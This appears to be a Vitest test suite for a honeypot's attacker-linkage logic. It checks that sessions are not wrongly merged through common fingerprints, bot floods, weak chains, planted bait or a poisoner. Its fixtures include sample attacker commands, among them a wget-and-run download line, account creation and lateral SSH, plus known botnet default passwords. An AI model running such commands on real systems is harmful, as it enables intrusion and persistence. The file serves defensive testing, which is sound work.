import { describe, expect, it } from 'vitest'
import { address, company, found, HOUR, list, NOW, stay } from './misled.fixture.ts'

describe('linkage of what is known to mislead', () => {
  it.each(company)(
    'keeps fifty strangers with one popular pair of fingerprints apart, and joins five with a rare one, $where',
    ({ others }) => {
      const popular = { ja3: ['3'.repeat(32)], hassh: ['5'.repeat(32)] }
      const rare = { ja3: ['7'.repeat(32)], hassh: ['9'.repeat(32)] }
      const strangers = list(50, (n) =>
        stay(`stranger-${n}`, NOW + n * 7 * HOUR, { ip: address(n), asn: 65_000 + n, fingerprints: popular }),
      )
      const one = list(5, (n) => stay(`one-${n}`, NOW + n * 30 * HOUR, { ip: address(100 + n), asn: 64_900 + n, fingerprints: rare }))
      const result = found([...strangers, ...one], others)
      expect(new Set(strangers.map(({ id }) => result.identity(id))).size).toBe(50)
      expect(new Set(one.map(({ id }) => result.identity(id))).size).toBe(1)
    },
  )

  it.each(company)('does not take a hundred bots on one decky for one operator, $where', ({ others }) => {
    const credentials = [
      ['root', 'xc3511'],
      ['root', 'vizxv'],
      ['admin', 'botnet-only-7'],
    ]
    const bots = list(100, (n) =>
      stay(`bot-${n}`, NOW + n * 0.2 * HOUR, {
        ip: address(n),
        asn: 64_600 + (n % 40),
        deckies: ['decky-01'],
        credentials,
        payloads: ['b'.repeat(64)],
        fingerprints: { hassh: ['8'.repeat(32)] },
        commands: [{ ts: NOW + n * 0.2 * HOUR, decky: 'decky-01', text: 'cd /tmp; wget http://drop/x; sh x' }],
      }),
    )
    const result = found(bots, others)
    expect(result.identities).toBeGreaterThanOrEqual(95)
  })

  it('makes one campaign, not one identity, of two operators who hand a decky over', () => {
    const habit = (ts: number, ...texts: string[]) => texts.map((text, n) => ({ ts: ts + n * 60_000, decky: 'decky-03', text }))
    const opens = NOW + 20 * HOUR
    const takes = opens + 3 * HOUR
    const opener = {
      asn: 65_101,
      fingerprints: { hassh: ['a1'.repeat(16)], ja3: ['a2'.repeat(16)] },
      c2: ['drop.team.example:8443', 'first.example'],
    }
    const closer = {
      asn: 65_202,
      fingerprints: { hassh: ['c1'.repeat(16)], ja3: ['c2'.repeat(16)] },
      c2: ['drop.team.example:8443', 'second.example'],
    }
    const planted = [['svc_backup7', 'Zr!91kq-team']]
    const files = ['e'.repeat(64)]
    const seen = [
      stay('opener-1', opens - 50 * HOUR, { ...opener, ip: address(1), deckies: ['decky-03', 'decky-05'] }),
      stay('opener-2', opens, {
        ...opener,
        ip: address(2),
        deckies: ['decky-03'],
        payloads: files,
        credentials: [['root', 'admin'], ...planted],
        commands: habit(opens, 'useradd -m svc_backup7', 'crontab -l'),
      }),
      stay('closer-1', takes, {
        ...closer,
        ip: address(3),
        deckies: ['decky-03'],
        payloads: files,
        credentials: planted,
        commands: habit(takes, 'arp -a', 'ip route', 'ssh 10.0.0.5'),
      }),
      stay('closer-2', takes + 40 * HOUR, {
        ...closer,
        ip: address(4),
        deckies: ['decky-03', 'decky-08'],
        payloads: ['f'.repeat(64)],
      }),
    ]
    const result = found(seen)
    expect(result.identity('opener-1')).toBe(result.identity('opener-2'))
    expect(result.identity('closer-1')).toBe(result.identity('closer-2'))
    expect(result.identity('opener-2')).not.toBe(result.identity('closer-1'))
    expect(result.campaign('opener-2')).toBe(result.campaign('closer-1'))
  })

  it('does not let a chain of 26 weak links collapse', () => {
    // Each shares a somewhat common pair with the next, and nothing else; their tools differ.
    const chain = list(26, (n) =>
      stay(`chain-${n}`, NOW + n * 11 * HOUR, {
        ip: address(n),
        asn: 65_300 + n,
        fingerprints: { hassh: [`${n}`.padStart(32, 'c')] },
        credentials: [
          ['root', `weak-${n}`],
          ['root', `weak-${n + 1}`],
        ],
      }),
    )
    expect(found(chain).largest).toBeLessThanOrEqual(6)
  })

  it('does not take for rare what is common, however many addresses of one network show other things', () => {
    const trait = (letter: string) => ({
      credentials: [[`u-${letter}`, `w-${letter}`]],
      commands: [{ ts: NOW, decky: 'web-01', text: `tool-${letter} x` }],
    })
    const strangers = list(10, (n) =>
      stay(`stranger-${n}`, NOW + (n % 4) * 7 * HOUR, {
        ip: address(n),
        asn: 65_000 + n,
        fingerprints: { ja3: ['popular-ja3'], hassh: ['popular-hassh'] },
        ...trait('abcdefghij'[n] ?? ''),
      }),
    )
    const flood = list(600, (n) =>
      stay(`flood-${n}`, NOW + n * 36_000, {
        ip: `2001:db8:5:${n.toString(16)}::1`,
        asn: 65_555,
        fingerprints: { ja3: [`ja3-${n}`], hassh: [`hassh-${n}`] },
        ...trait(`flood-${n}`),
      }),
    )
    const result = found([...strangers, ...flood], [])
    expect(new Set(strangers.map(({ id }) => result.identity(id))).size).toBe(10)
  })

  it.each(company)('makes nobody one by what one left on a decky for all to find, $where', ({ others }) => {
    for (const client of ['popular', 'own'])
      for (const looks of [['cat /var/tmp/todo.txt'], ['ls -la /var/tmp/todo.txt', 'cat todo.txt', 'rm -f /var/tmp/todo.txt']])
        for (const count of [2, 3, 5, 8]) {
          const curious = list(count, (n) => {
            const at = NOW + (20 + n * 7) * HOUR
            const own = 'abcdefgh'[n] ?? ''
            return stay(`curious-${n}`, at, {
              ip: address(20 + n),
              deckies: ['web-01', 'web-02'],
              fingerprints: { hassh: [client === 'own' ? `${own}-hassh` : '472b5de333ad665af5cbf10ff892c4df'] },
              credentials: [['root', '123456']],
              commands: [...looks, `cat /opt/${own}${own}/x.conf`, `ls /srv/${own}${own}${own}`].map((text, k) => ({
                ts: at + k * 4_000,
                decky: 'web-01',
                text,
              })),
            })
          })
          const left = [{ ts: NOW, decky: 'web-01', text: 'echo "opsbot is new here" > /var/tmp/todo.txt' }]
          const planter = stay('planter', NOW, { ip: address(90), deckies: ['web-01'], commands: left })
          const { largest, campaign } = found([...curious, planter], others)
          expect([largest, new Set(curious.map(({ id }) => campaign(id))).size], `${count} ${client} ${looks}`).toEqual([1, count])
        }
  })

  it.each(company)('makes nobody one by log-ins that one left on a decky for all to find, $where', ({ others }) => {
    const planted = [
      ['svcmon', 'Zr!91kq-lamp'],
      ['dbsync', 'Tq?55-harbour-x'],
      ['fileadm', 'Wm-22-quartz!p'],
    ]
    for (const count of [1, 2, 3])
      for (const client of ['popular', 'own']) {
        const curious = list(2, (n) => {
          const at = NOW + (20 + n * 11) * HOUR
          const logins = planted.slice(0, count)
          return stay(`curious-${n}`, at, {
            ip: address(20 + n),
            deckies: ['web-01', 'web-02'],
            fingerprints: { hassh: [client === 'own' ? `${n}-hassh` : '472b5de333ad665af5cbf10ff892c4df'] },
            credentials: [n === 0 ? ['root', '123456'] : ['admin', 'admin'], ...logins],
            credentialTimes: [at, ...logins.map((_, k) => at + 120_000 + k * 9_000)],
            commands: [n === 0 ? 'uname -a' : 'whoami', 'cat /srv/it/handover.txt'].map((text, k) => ({
              ts: at + 9_000 + k * 4_000,
              decky: 'web-01',
              text,
            })),
          })
        })
        const notes = planted.slice(0, count).map(([user, word], k) => ({
          ...{ ts: NOW + k * 9_000, decky: 'web-01', text: `echo ${user}:${word} >> /srv/it/handover.txt` },
        }))
        const planter = stay('planter', NOW, { ip: address(90), deckies: ['web-01'], commands: notes })
        const { largest } = found([...curious, planter], others)
        expect(largest, `${count} ${client}`).toBe(1)
      }
  })

  it('does not let one poisoner who shows the traces of two strangers merge them', () => {
    const trace = (letter: string) => ({
      fingerprints: { hassh: [letter.repeat(32)], ja3: [letter.repeat(32)] },
      payloads: [letter.repeat(64)],
      credentials: [[`own-${letter}`, `pass-${letter}`]],
    })
    const person = (letter: string, block: number) =>
      list(4, (n) => stay(`${letter}-${n}`, NOW + n * 40 * HOUR, { ...trace(letter), ip: address(100 * block + n), asn: 65_400 + block }))
    const [one, other] = [person('d', 1), person('e', 2)]
    const poison = stay('poison', NOW + 100 * HOUR, {
      ip: address(999),
      asn: 65_499,
      fingerprints: { hassh: ['d', 'e'].map((letter) => letter.repeat(32)), ja3: ['d', 'e'].map((letter) => letter.repeat(32)) },
      payloads: ['d', 'e'].map((letter) => letter.repeat(64)),
      credentials: ['d', 'e'].map((letter) => [`own-${letter}`, `pass-${letter}`]),
    })
    const result = found([...one, ...other, poison])
    expect(result.identity('d-0')).toBe(result.identity('d-3'))
    expect(result.identity('e-0')).toBe(result.identity('e-3'))
    expect(result.identity('d-0')).not.toBe(result.identity('e-0'))
  })
})
